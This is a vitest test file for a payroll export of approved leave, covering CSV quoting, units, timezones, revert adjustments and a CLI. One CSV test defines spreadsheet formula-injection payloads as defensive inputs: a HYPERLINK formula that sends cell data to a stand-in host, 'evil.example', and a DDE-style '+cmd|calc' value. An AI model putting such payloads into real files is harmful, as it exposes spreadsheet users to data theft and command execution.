import { spawn } from 'node:child_process';
import { fileURLToPath } from 'node:url';
import { and, eq } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { exportCommand, parseExportArgs, runExport } from '../../src/cli/export.js';
import { employees, payrollExportLines, payrollExports } from '../../src/db/schema.js';
import type { Clock } from '../../src/deps.js';
import { csvField } from '../../src/reports/payroll-csv.js';
import { PAYROLL_COLUMNS, type AdjustmentLine, type PayrollExport, type PayrollLine } from '../../src/reports/payroll-types.js';
import { toMicro } from '../../src/shared/decimal.js';
import { ADMIN, testApp, testConfig } from '../support/app.js';
import { BACKENDS, type TestDatabase } from '../support/db.js';
import { leaveApprovalV1, leaveApprovalV2, leaveRevert, type LeaveSpec } from '../support/feishu.js';

/** RFC 4180 reader for the tests: quoted fields, doubled quotes, CRLF records. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = '';
  let i = 0;
  let quoted = false;
  while (i < text.length) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        field += '"';
        i += 2;
      } else if (ch === '"') {
        quoted = false;
        i++;
      } else {
        field += ch;
        i++;
      }
    } else if (ch === '"' && field === '') {
      quoted = true;
      i++;
    } else if (ch === ',') {
      row.push(field);
      field = '';
      i++;
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(field);
      rows.push(row);
      row = [];
      field = '';
      i += 2;
    } else {
      if (ch === '\n' || ch === '\r' || ch === '"') throw new Error(`bare ${JSON.stringify(ch)} at ${i}: not RFC 4180`);
      field += ch;
      i++;
    }
  }
  if (quoted) throw new Error('unterminated quoted field');
  if (field !== '' || row.length) throw new Error('last record lacks its CRLF');
  return rows;
}

const BASE_SECONDS: Record<string, number> = { day: 86_400, hour: 3_600, minute: 60 };

/** Sum of one leave's quantities × the unit's base, exactly (integer micro-seconds). */
const secondsOf = (lines: Array<Pick<PayrollLine, 'quantity' | 'unit'>>) =>
  lines.reduce((acc, l) => acc + toMicro(l.quantity) * BigInt(BASE_SECONDS[l.unit]!), 0n);

let seq = 0;
const code = (tag: string) => `PAY-${tag}-${process.pid}-${++seq}`;

for (const backend of BACKENDS) {
  describe(`payroll export (${backend.name})`, () => {
    let db: TestDatabase;
    let t: ReturnType<typeof testApp>;

    // Plain (unencrypted, unsigned) webhook bodies: the payroll side is what is under test here.
    const send = async (body: string) => {
      const res = await t.post({ body, headers: { 'content-type': 'application/json' } });
      expect(res.status).toBe(200);
      const json = (await res.json()) as { status: string };
      expect(json.status).toBe('applied');
    };
    const approve = (s: LeaveSpec & { instanceCode: string }) => send(leaveApprovalV2(s));
    const exportJson = async (from: string, to: string, extra = '') => {
      const res = await t.admin(`/api/payroll/export?from=${from}&to=${to}&format=json${extra}`);
      expect(res.status).toBe(200);
      return (await res.json()) as PayrollExport;
    };
    const exportCsv = async (from: string, to: string, extra = '') => {
      const res = await t.admin(`/api/payroll/export?from=${from}&to=${to}&format=csv${extra}`);
      expect(res.status).toBe(200);
      expect(res.headers.get('content-type')).toMatch(/^text\/csv; charset=utf-8/);
      return res.text();
    };
    const forLeave = (lines: PayrollLine[], instanceCode: string) => lines.filter((l) => l.instance_code === instanceCode);

    beforeAll(async () => {
      db = await backend.create();
      t = testApp(db, { env: { FEISHU_ENCRYPT_KEY: undefined } });
    });
    afterAll(async () => {
      await db?.close();
    });

    it('a leave crossing the period contributes only its days inside; both halves add up to its interval', async () => {
      const a = code('cross');
      // Fri 2031-01-31 09:00 → Tue 2031-02-04 18:00 in steps of whole days: 5 days over 5 dates
      await approve({ instanceCode: a, employeeId: 'u_cross', start: '2031-01-31 00:00:00', end: '2031-02-05 00:00:00', interval: 5 * 86_400, unit: 'DAY' });
      const jan = await exportJson('2031-01-01', '2031-01-31');
      const feb = await exportJson('2031-02-01', '2031-02-28');
      expect(forLeave(jan.lines, a).map((l) => [l.date, l.quantity, l.unit])).toEqual([['2031-01-31', '1', 'day']]);
      expect(forLeave(feb.lines, a).map((l) => [l.date, l.quantity])).toEqual([
        ['2031-02-01', '1'],
        ['2031-02-02', '1'],
        ['2031-02-03', '1'],
        ['2031-02-04', '1'],
      ]);
      expect(secondsOf([...forLeave(jan.lines, a), ...forLeave(feb.lines, a)])).toBe(5n * 86_400n * 1_000_000n);
      // a one-day period in the middle
      const mid = await exportJson('2031-02-02', '2031-02-02');
      expect(mid.lines.map((l) => l.date)).toEqual(['2031-02-02']);
    });

    it('half days, hours, half hours and minutes: plain decimals in the right unit, each leave summing to its interval', async () => {
      const half = code('half');
      const hours = code('hours');
      const night = code('night');
      const halfHour = code('halfhour');
      const minutes = code('minutes');
      await approve({
        instanceCode: half,
        employeeId: 'u_half',
        unit: 'HALF_DAY',
        interval: 129_600, // 1.5 days (leave_interval is seconds: days × 86400)
        start: '2032-03-04 13:30:00',
        end: '2032-03-05 18:00:00',
        range: [
          ['2032-03-04 13:30:00', '2032-03-04 18:00:00'],
          ['2032-03-05 09:00:00', '2032-03-05 18:00:00'],
        ],
      });
      await approve({ instanceCode: hours, employeeId: 'u_hours', unit: 'HOUR', interval: 3 * 3600, start: '2032-03-10 14:00:00', end: '2032-03-10 17:00:00' });
      await approve({ instanceCode: night, employeeId: 'u_hours', unit: 'HOUR', interval: 4 * 3600, start: '2032-03-11 22:00:00', end: '2032-03-12 02:00:00' });
      await approve({ instanceCode: halfHour, employeeId: 'u_hh', unit: 'HALF_HOUR', interval: 9000, start: '2032-03-12 09:00:00', end: '2032-03-12 11:30:00' });
      await approve({ instanceCode: minutes, employeeId: 'u_min', unit: 'MINUTE', interval: 95 * 60, start: '2032-03-13 23:00:00', end: '2032-03-14 00:35:00' });
      const exp = await exportJson('2032-03-01', '2032-03-31');
      const pick = (c: string) => forLeave(exp.lines, c).map((l) => [l.date, l.quantity, l.unit]);
      expect(pick(half)).toEqual([
        ['2032-03-04', '0.5', 'day'],
        ['2032-03-05', '1', 'day'],
      ]);
      expect(pick(hours)).toEqual([['2032-03-10', '3', 'hour']]);
      expect(pick(night)).toEqual([
        ['2032-03-11', '2', 'hour'],
        ['2032-03-12', '2', 'hour'],
      ]);
      expect(pick(halfHour)).toEqual([['2032-03-12', '2.5', 'hour']]);
      expect(pick(minutes)).toEqual([
        ['2032-03-13', '60', 'minute'],
        ['2032-03-14', '35', 'minute'],
      ]);
      const intervals: Record<string, number> = { [half]: 129_600, [hours]: 10_800, [night]: 14_400, [halfHour]: 9000, [minutes]: 5700 };
      for (const [c, seconds] of Object.entries(intervals)) expect(secondsOf(forLeave(exp.lines, c))).toBe(BigInt(seconds) * 1_000_000n);
      // sorted by date, employee_id, instance_code
      const keys = exp.lines.map((l) => [l.date, l.employee_id, l.instance_code].join('|'));
      expect(keys).toEqual([...keys].sort());
      // the CSV says the same
      const rows = parseCsv(await exportCsv('2032-03-01', '2032-03-31'));
      expect(rows[0]).toEqual([...PAYROLL_COLUMNS]);
      expect(rows.slice(1)).toEqual(exp.lines.map((l) => PAYROLL_COLUMNS.map((c) => l[c] ?? '')));
    });

    it('dates are the employee\'s wall clock: neither DEFAULT_TIMEZONE, an employee zone nor the server zone moves a line', async () => {
      const c = code('zone');
      // Midnight 1 Oct in Shanghai is 30 Sep 16:00 UTC: a UTC-minded export would put it in September.
      await db.db.insert(employees).values({ employeeId: 'u_zone', timezone: 'America/New_York' }).onConflictDoNothing();
      await approve({ instanceCode: c, employeeId: 'u_zone', start: '2033-10-01 00:00:00', end: '2033-10-02 00:00:00', interval: 86_400, unit: 'DAY' });
      for (const zone of ['Asia/Shanghai', 'Pacific/Kiritimati', 'Pacific/Pago_Pago']) {
        const z = testApp(db, { env: { FEISHU_ENCRYPT_KEY: undefined, DEFAULT_TIMEZONE: zone } });
        const sep = (await (await z.admin('/api/payroll/export?from=2033-09-01&to=2033-09-30&format=json&adjustments=false')).json()) as PayrollExport;
        const oct = (await (await z.admin('/api/payroll/export?from=2033-10-01&to=2033-10-31&format=json&adjustments=false')).json()) as PayrollExport;
        expect(forLeave(sep.lines, c)).toEqual([]);
        expect(forLeave(oct.lines, c).map((l) => [l.date, l.quantity])).toEqual([['2033-10-01', '1']]);
      }
    });

    it('CSV: RFC 4180 quoting, CRLF, header row, and formula injection neutralised (text only, numbers kept)', async () => {
      const c = code('csv');
      const nasty = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
      // V1: its leave_type is a plain JSON string (V2's i18n text format cannot carry a comma).
      await send(leaveApprovalV1({ instanceCode: c, employeeId: 'u,comma "q"', openId: '@open\nid', leaveName: nasty, start: '2034-05-02 00:00:00', end: '2034-05-03 00:00:00', interval: 86_400 }));
      await db.db.update(employees).set({ emailOverride: '+cmd|calc@example.com' }).where(eq(employees.employeeId, 'u,comma "q"'));
      const text = await exportCsv('2034-05-01', '2034-05-31');
      expect(text.endsWith('\r\n')).toBe(true);
      expect(text.split('\r\n')[0]).toBe('employee_id,open_id,email,leave_type,date,quantity,unit,instance_code');
      const rows = parseCsv(text);
      expect(rows).toHaveLength(2);
      expect(rows[1]).toEqual(['u,comma "q"', "'@open\nid", "'+cmd|calc@example.com", `'${nasty}`, '2034-05-02', '1', 'day', c]);
      // field-level rules
      expect(csvField('plain')).toBe('plain');
      expect(csvField('a,b')).toBe('"a,b"');
      expect(csvField('say "hi"')).toBe('"say ""hi"""');
      expect(csvField('line\r\nbreak')).toBe('"line\r\nbreak"');
      expect(csvField('-0.5')).toBe('-0.5');
      expect(csvField('-1')).toBe('-1');
      expect(csvField('-x')).toBe("'-x");
      expect(csvField('\t=1')).toBe("'\t=1");
      expect(csvField(null)).toBe('');
    });

    it('reverted leaves are absent, whether the revert came after the approval or before it', async () => {
      const after = code('rev-after');
      const before = code('rev-before');
      const kept = code('kept');
      await approve({ instanceCode: after, employeeId: 'u_rev', start: '2035-06-03 00:00:00', end: '2035-06-05 00:00:00', interval: 2 * 86_400 });
      await send(leaveRevert({ instanceCode: after }));
      await send(leaveRevert({ instanceCode: before }));
      await send(leaveApprovalV1({ instanceCode: before, employeeId: 'u_rev', start: '2035-06-10 00:00:00', end: '2035-06-11 00:00:00', interval: 86_400 }));
      await approve({ instanceCode: kept, employeeId: 'u_rev', start: '2035-06-12 00:00:00', end: '2035-06-13 00:00:00', interval: 86_400 });
      const exp = await exportJson('2035-06-01', '2035-06-30');
      expect(exp.lines.map((l) => l.instance_code)).toEqual([kept]);
    });

    it('a revert after an export shows up as negative adjustment lines on the next export of that period, once', async () => {
      const gone = code('adj-gone');
      const stays = code('adj-stays');
      await db.db.insert(employees).values({ employeeId: 'u_adj', email: 'adj@example.com' }).onConflictDoNothing();
      await approve({ instanceCode: gone, employeeId: 'u_adj', unit: 'HALF_DAY', interval: 129_600, start: '2036-07-07 09:00:00', end: '2036-07-08 13:00:00', range: [['2036-07-07 09:00:00', '2036-07-07 18:00:00'], ['2036-07-08 09:00:00', '2036-07-08 13:00:00']] });
      await approve({ instanceCode: stays, employeeId: 'u_adj', start: '2036-07-20 00:00:00', end: '2036-07-21 00:00:00', interval: 86_400 });

      const first = await exportJson('2036-07-01', '2036-07-31');
      expect(first.adjustments).toBeUndefined(); // nothing was handed out before
      expect(first.lines.map((l) => l.instance_code)).toEqual([gone, gone, stays]);
      const goneLines = forLeave(first.lines, gone);

      await send(leaveRevert({ instanceCode: gone }));

      const second = await exportJson('2036-07-01', '2036-07-31');
      expect(second.lines.map((l) => l.instance_code)).toEqual([stays]);
      expect(second.baseline).toEqual([expect.objectContaining({ export_id: first.export_id, from: '2036-07-01', to: '2036-07-31', dates: 31 })]);
      expect(second.adjustments).toEqual(
        goneLines.map((l) => ({
          ...l,
          quantity: `-${l.quantity}`,
          reason: 'reverted',
          previous_quantity: l.quantity,
          current_quantity: '0',
          previous_export_id: first.export_id,
        })),
      );
      expect(second.adjustments!.map((a) => [a.date, a.quantity, a.email])).toEqual([
        ['2036-07-07', '-1', 'adj@example.com'],
        ['2036-07-08', '-0.5', 'adj@example.com'],
      ]);
      // baseline + adjustments = today's lines, in seconds
      expect(secondsOf(first.lines) + secondsOf(second.adjustments!)).toBe(secondsOf(second.lines));

      // the third export of the same period has nothing new to say
      const third = await exportJson('2036-07-01', '2036-07-31');
      expect(third.adjustments).toBeUndefined();
      expect(third.baseline?.[0]?.export_id).toBe(second.export_id);
      // …unless asked: then the (empty) list is there, and against an overlapping week too
      expect((await exportJson('2036-07-01', '2036-07-31', '&adjustments=true')).adjustments).toEqual([]);

      // every export is recorded with its period, time and lines
      const rows = await db.db.select().from(payrollExports).where(eq(payrollExports.fromDate, '2036-07-01')).orderBy(payrollExports.id);
      const stored = async (id: number) => (await db.db.select().from(payrollExportLines).where(and(eq(payrollExportLines.exportId, id), eq(payrollExportLines.lineType, 'line')))).length;
      expect(await Promise.all(rows.map(async (r) => [r.toDate, r.format, r.lineCount, await stored(r.id)]))).toEqual([
        ['2036-07-31', 'json', 3, 3],
        ['2036-07-31', 'json', 1, 1],
        ['2036-07-31', 'json', 1, 1],
        ['2036-07-31', 'json', 1, 1],
      ]);
    });

    it('adjustments=true lists a reversal against an earlier export of an overlapping period, and CSV carries it', async () => {
      const c = code('adj-overlap');
      await approve({ instanceCode: c, employeeId: 'u_ovl', start: '2037-08-10 00:00:00', end: '2037-08-12 00:00:00', interval: 2 * 86_400 });
      const month = await exportJson('2037-08-01', '2037-08-31');
      expect(forLeave(month.lines, c)).toHaveLength(2);
      await send(leaveRevert({ instanceCode: c }));
      // A weekly re-run over part of the month: compared date by date with the monthly export.
      const text = await exportCsv('2037-08-09', '2037-08-15', '&adjustments=true');
      const rows = parseCsv(text);
      expect(rows[0]).toEqual([...PAYROLL_COLUMNS, 'line_type', 'adjustment_reason']);
      expect(rows.slice(1)).toEqual([
        ['u_ovl', 'ou_alice', '', 'Annual leave', '2037-08-10', '-1', 'day', c, 'adjustment', 'reverted'],
        ['u_ovl', 'ou_alice', '', 'Annual leave', '2037-08-11', '-1', 'day', c, 'adjustment', 'reverted'],
      ]);
      // without the flag, a period nobody exported before carries no adjustment columns
      const fresh = parseCsv(await exportCsv('2037-09-01', '2037-09-30'));
      expect(fresh[0]).toEqual([...PAYROLL_COLUMNS]);
      // adjustments=false: the plain eight columns even when there would be some
      await approve({ instanceCode: code('late'), employeeId: 'u_ovl', start: '2037-08-20 00:00:00', end: '2037-08-21 00:00:00', interval: 86_400 });
      expect(parseCsv(await exportCsv('2037-08-01', '2037-08-31', '&adjustments=false'))[0]).toEqual([...PAYROLL_COLUMNS]);
    });

    it('a re-allocation (V2 enriching V1) after an export gives a negative and a positive adjustment; a late approval a positive one', async () => {
      const c = code('realloc');
      // V1 has only start..end: one day's leave spread over two dates goes to the earlier one.
      await send(leaveApprovalV1({ instanceCode: c, employeeId: 'u_realloc', start: '2038-02-01 00:00:00', end: '2038-02-03 00:00:00', interval: 86_400 }));
      const first = await exportJson('2038-02-01', '2038-02-28');
      expect(forLeave(first.lines, c).map((l) => [l.date, l.quantity])).toEqual([['2038-02-01', '1']]);
      // V2's leave_range says the day taken was the 2nd.
      await send(leaveApprovalV2({ instanceCode: c, employeeId: 'u_realloc', start: '2038-02-01 00:00:00', end: '2038-02-03 00:00:00', interval: 86_400, range: [['2038-02-02 00:00:00', '2038-02-03 00:00:00']] }));
      const late = code('late-approval');
      await approve({ instanceCode: late, employeeId: 'u_late', start: '2038-02-14 00:00:00', end: '2038-02-15 00:00:00', interval: 86_400 });
      const second = await exportJson('2038-02-01', '2038-02-28');
      expect(second.adjustments!.map((a: AdjustmentLine) => [a.instance_code, a.date, a.quantity, a.reason])).toEqual([
        [c, '2038-02-01', '-1', 'changed'],
        [c, '2038-02-02', '1', 'changed'],
        [late, '2038-02-14', '1', 'added'],
      ]);
      expect(secondsOf(first.lines) + secondsOf(second.adjustments!)).toBe(secondsOf(second.lines));
    });

    it('rejects bad periods and formats with 400, and is behind the admin token', async () => {
      const bad = [
        '',
        '?from=2024-01-01',
        '?to=2024-01-31',
        '?from=2024-02-30&to=2024-03-01',
        '?from=2024-13-01&to=2024-12-31',
        '?from=20240101&to=2024-01-31',
        '?from=2024-02-01&to=2024-01-31',
        '?from=2024-01-01&to=2025-01-02', // 368 days
        '?from=2024-01-01&to=2024-01-31&format=xlsx',
        '?from=2024-01-01&to=2024-01-31&adjustments=maybe',
      ];
      for (const q of bad) {
        const res = await t.admin(`/api/payroll/export${q}`);
        expect(res.status, q).toBe(400);
        const body = (await res.json()) as { error: { code: string; message: string } };
        expect(body.error.code).toMatch(/^invalid_/);
      }
      // a leap year is the longest period
      expect((await t.admin('/api/payroll/export?from=2024-01-01&to=2024-12-31&format=json&adjustments=false')).status).toBe(200);
      expect((await t.app.request('/api/payroll/export?from=2024-01-01&to=2024-01-31')).status).toBe(401);
      expect((await t.app.request('/api/payroll/export?from=2024-01-01&to=2024-01-31', { headers: { authorization: 'Bearer nope' } })).status).toBe(401);
      const off = testApp(db, { env: { ADMIN_TOKEN: undefined } });
      expect((await off.app.request('/api/payroll/export?from=2024-01-01&to=2024-01-31', { headers: { authorization: `Bearer ${ADMIN}` } })).status).toBe(404);
    });

    it('the CLI writes the same export to stdout and records it', async () => {
      const c = code('cli');
      await approve({ instanceCode: c, employeeId: 'u_cli', start: '2039-04-01 00:00:00', end: '2039-04-03 00:00:00', interval: 2 * 86_400 });
      const args = parseExportArgs(['--from', '2039-04-01', '--to', '2039-04-30', '--format', 'csv']);
      if ('error' in args) throw new Error(args.error);
      let out = '';
      const clock: Clock = { now: () => new Date('2039-05-01T08:00:00Z') };
      expect(await runExport({ db: db.db, clock }, args, { out: (s) => (out += s), err: () => {} })).toBe(0);
      expect(parseCsv(out).slice(1).map((r) => [r[4], r[5], r[7]])).toEqual([
        ['2039-04-01', '1', c],
        ['2039-04-02', '1', c],
      ]);
      const [rec] = await db.db.select().from(payrollExports).where(eq(payrollExports.fromDate, '2039-04-01'));
      expect(rec).toMatchObject({ toDate: '2039-04-30', format: 'csv', lineCount: 2, createdAt: new Date('2039-05-01T08:00:00Z') });
      const jsonArgs = parseExportArgs(['--from', '2039-04-01', '--to', '2039-04-30', '--format', 'json', '--no-adjustments']);
      if ('error' in jsonArgs) throw new Error(jsonArgs.error);
      let json = '';
      await runExport({ db: db.db, clock }, jsonArgs, { out: (s) => (json += s), err: () => {} });
      expect((JSON.parse(json) as PayrollExport).lines.map((l) => [l.date, l.quantity, l.unit])).toEqual([
        ['2039-04-01', '1', 'day'],
        ['2039-04-02', '1', 'day'],
      ]);
      expect(parseExportArgs(['--from', '2039-04-01'])).toEqual({ error: '--to: required (YYYY-MM-DD)' });
      expect(parseExportArgs(['--from', '2039-04-01', '--to', '2039-04-30', '--format', 'xml'])).toEqual({ error: '--format must be csv or json' });
      expect(parseExportArgs(['--from', '2039-05-01', '--to', '2039-04-30'])).toMatchObject({ error: expect.stringMatching(/after/) });
      expect(parseExportArgs(['--bogus'])).toMatchObject({ error: expect.stringMatching(/bogus/) });
      // bad arguments: exit 2 with usage on stderr, nothing on stdout, no database opened
      const errs: string[] = [];
      let stdout = '';
      const config = testConfig({ DATABASE_URL: 'postgres://nobody@127.0.0.1:1/none' });
      expect(await exportCommand(config, ['--from', '2039-05-01', '--to', '2039-04-30'], { out: (s) => (stdout += s), err: (l) => errs.push(l) })).toBe(2);
      expect(stdout).toBe('');
      expect(errs.join('\n')).toMatch(/after[\s\S]*usage: leave-bridge export/);
    });

    if (backend.name === 'postgres') {
      it('`leave-bridge export` as a real process: the command is registered, CSV on stdout, exit 0', async () => {
        const c = code('proc');
        await approve({ instanceCode: c, employeeId: 'u_proc', start: '2040-01-02 00:00:00', end: '2040-01-03 00:00:00', interval: 86_400, unit: 'DAY' });
        const run = (args: string[]) =>
          new Promise<{ code: number | null; stdout: string; stderr: string }>((resolve, reject) => {
            const child = spawn(process.execPath, ['--import', 'tsx', fileURLToPath(new URL('../../src/node.ts', import.meta.url)), 'export', ...args], {
              env: { PATH: process.env.PATH, DATABASE_URL: db.url!, LOG_LEVEL: 'silent' },
              stdio: ['ignore', 'pipe', 'pipe'],
            });
            let stdout = '';
            let stderr = '';
            child.stdout.on('data', (d: Buffer) => (stdout += d.toString()));
            child.stderr.on('data', (d: Buffer) => (stderr += d.toString()));
            child.on('error', reject);
            child.on('close', (exit) => resolve({ code: exit, stdout, stderr }));
          });
        const ok = await run(['--from', '2040-01-01', '--to', '2040-01-31']);
        expect(ok.stderr).toBe('');
        expect(ok.code).toBe(0);
        expect(parseCsv(ok.stdout)).toEqual([[...PAYROLL_COLUMNS], ['u_proc', 'ou_alice', '', 'Annual leave', '2040-01-02', '1', 'day', c]]);
      }, 60_000);
    }
  });
}
